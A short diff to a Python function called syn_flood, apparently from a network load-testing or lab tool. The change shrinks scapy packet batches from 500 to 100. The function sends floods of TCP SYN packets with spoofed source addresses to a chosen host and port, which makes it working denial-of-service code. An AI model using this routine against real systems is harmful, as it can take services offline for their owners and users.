@@ -247,11 +247,13 @@ def syn_flood(host, port, count, secs):
     rng = random.Random(5961)
     t0 = time.time()
     sent = 0
+    # small batches: the time bound holds on a loaded machine, where scapy
+    # builds packets slowly
     while sent < count and time.time() - t0 < secs:
         batch = [IP(src=f"203.0.113.{rng.randrange(1, 255)}", dst=host) /
                  TCP(sport=rng.randrange(1024, 65535), dport=port, flags="S",
                      seq=rng.randrange(0, 1 << 32))
-                 for _ in range(min(500, count - sent))]
+                 for _ in range(min(100, count - sent))]
         send(batch)
         sent += len(batch)
     out({"sent": sent, "secs": round(time.time() - t0, 2)})
